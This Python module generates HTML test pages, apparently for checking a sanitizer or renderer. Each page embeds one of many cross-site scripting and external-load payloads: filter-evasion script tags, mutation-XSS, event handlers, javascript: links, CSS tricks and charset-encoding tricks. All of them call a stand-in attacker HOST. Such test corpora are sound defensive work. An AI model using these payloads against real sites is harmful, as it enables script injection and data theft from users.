"""Attacks in pages of HTML."""

import base64

from attack import HOST

JS = f"fetch('//{HOST}')"


def page(body: str, head: str = "") -> bytes:
    return f'<!DOCTYPE html><html><head><meta charset="utf-8"><title>汐見市</title>{head}</head><body><p>お知らせ</p>{body}</body></html>'.encode()


BODIES = {
    "script": f"<script>{JS}</script>",
    "script-src": f"<script src=//{HOST}/x.js></script>",
    "script-case": f"<ScRiPt>{JS}</sCrIpT>",
    "script-broken": f"<scr<script>ipt>{JS}</script>",
    "script-null": f"<scr\0ipt>{JS}</script>",
    "script-slash": f"<script/x>{JS}</script>",
    "script-open": f"<script>{JS}",
    "script-svg": f"<svg><script>{JS}</script></svg>",
    "script-xlink": f'<svg><script xlink:href="//{HOST}/x"/></svg>',
    "script-noscript": f'<noscript><p title="</noscript><script>{JS}</script>">',
    "script-template": f"<template><script>{JS}</script></template>",
    "mxss-math": f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={JS}&gt;">',
    "mxss-form": f'<form><math><mtext></form><form><mglyph><style></math><img src onerror="{JS}">',
    "event": f'<img src=x onerror="{JS}">',
    "event-newline": f"<img src=x\nonerror\n=\n{JS}>",
    "event-slash": f"<img/src=x/onerror={JS}>",
    "event-case": f"<p OnClick={JS}>x</p>",
    "event-body": f'<div onpointerrawupdate="{JS}" style="height:9em">x</div>',
    "event-svg": f'<svg onload="{JS}"/>',
    "event-details": f'<details open ontoggle="{JS}">',
    "link-javascript": f'<a href="javascript:{JS}">x</a>',
    "link-case": f'<a href="JaVaScRiPt:{JS}">x</a>',
    "link-tab": f'<a href="java\tscript:{JS}">x</a>',
    "link-entity": f'<a href="&#106;avascript&colon;{JS}">x</a>',
    "link-entity-newline": f'<a href="java&NewLine;script:{JS}">x</a>',
    "link-control": f'<a href="\x01javascript:{JS}">x</a>',
    "link-vbscript": f'<a href="vbscript:{HOST}">x</a>',
    "link-data": f'<a href="data:text/html,<script>{JS}</script>">x</a>',
    "link-file": f'<a href="file://{HOST}/x">x</a>',
    "link-unc": f'<a href="\\\\{HOST}\\x">x</a>',
    "link-relative": f'<a href="//{HOST}/x">x</a>',
    "link-ping": f'<a href="https://city.example/" ping="http://{HOST}/">x</a>',
    "iframe": f"<iframe src=http://{HOST}/></iframe>",
    "iframe-srcdoc": f'<iframe srcdoc="&lt;script&gt;{JS}&lt;/script&gt;"></iframe>',
    "frame": f"<frameset><frame src=http://{HOST}/></frameset>",
    "object": f"<object data=http://{HOST}/></object>",
    "embed": f"<embed src=http://{HOST}/>",
    "applet": f"<applet code=x archive=http://{HOST}/x.jar></applet>",
    "form": f"<form action=http://{HOST}/><input name=a autofocus onfocus={JS}></form>",
    "button": f"<form id=f></form><button form=f formaction=javascript:{JS}>x</button>",
    "image": f"<img src=http://{HOST}/x.png>",
    "image-set": f'<img srcset="http://{HOST}/x 1x">',
    "image-svg": '<img src="data:image/svg+xml;base64,'
    + base64.b64encode(f'<svg xmlns="http://www.w3.org/2000/svg" onload="{JS}"/>'.encode()).decode()
    + '">',
    "picture-source": f"<picture><source srcset=http://{HOST}/x><img></picture>",
    "video": f"<video poster=http://{HOST}/x><source src=http://{HOST}/y></video>",
    "background": f"<table background=http://{HOST}/x><tr><td>x</table>",
    "style-url": f'<p style="background:url(http://{HOST}/x)">x</p>',
    "style-escape": f'<p style="background:\\75rl(http://{HOST}/x)">x</p>',
    "style-comment": f'<p style="background:u/**/rl(http://{HOST}/x)">x</p>',
    "style-expression": f'<p style="width:expression({JS})">x</p>',
    "style-import": f"<style>@import 'http://{HOST}/x';</style>",
    "style-binding": f'<p style="-moz-binding:url(http://{HOST}/x#y)">x</p>',
    "comment-condition": f"<!--[if IE]><script>{JS}</script><![endif]-->",
    "comment-end": f"<!--><script>{JS}</script>-->",
    "xml-island": f"<xml id=x><a><![CDATA[<script>{JS}</script>]]></a></xml><span datasrc=#x datafld=a dataformatas=html></span>",
    "marquee": f"<marquee onstart={JS}>x</marquee>",
    "svg-animate": f'<svg><a><animate attributeName="href" values="javascript:{JS}"/><text>x</text></a></svg>',
    "svg-use": f'<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>{JS}</script></svg>#x"/></svg>',
    "isindex": f"<isindex action=http://{HOST}/>",
    "portal": f"<portal src=http://{HOST}/>",
}
HEADS = {
    "refresh": f'<meta http-equiv="refresh" content="0;url=http://{HOST}/">',
    "base": f"<base href=http://{HOST}/>",
    "style-link": f"<link rel=stylesheet href=http://{HOST}/x.css>",
    "prefetch": f"<link rel=dns-prefetch href=//{HOST}>",
    "import": f"<link rel=import href=http://{HOST}/x>",
    "cookie": '<meta http-equiv="Set-Cookie" content="a=b">',
    "manifest": f"<link rel=manifest href=http://{HOST}/x>",
}


def html():
    for name, body in BODIES.items():
        yield name, page(body)
    for name, head in HEADS.items():
        yield name, page("", head)
    yield (
        "utf7",
        b'<html><head><meta charset="utf-7"></head><body>+ADw-script+AD4-'
        + JS.encode()
        + b"+ADw-/script+AD4-</body></html>",
    )
    yield "utf16", page(BODIES["script"]).decode().encode("utf-16")
    yield (
        "iso-2022-jp",
        b'<html><head><meta charset="iso-2022-jp"></head><body><p title="\x1b$B">x</p><p title="\x1b(B" onclick='
        + JS.encode()
        + b">x</p></body></html>",
    )
    yield (
        "shift-jis-tail",
        b'<html><head><meta charset="shift_jis"></head><body><img alt="\x83" title=" onerror='
        + JS.encode()
        + b' src=x x="</body></html>',
    )
    yield (
        "xml-stylesheet",
        f'<?xml version="1.0"?><?xml-stylesheet href="http://{HOST}/x.xsl" type="text/xsl"?><html xmlns="http://www.w3.org/1999/xhtml"><body/></html>'.encode(),
    )
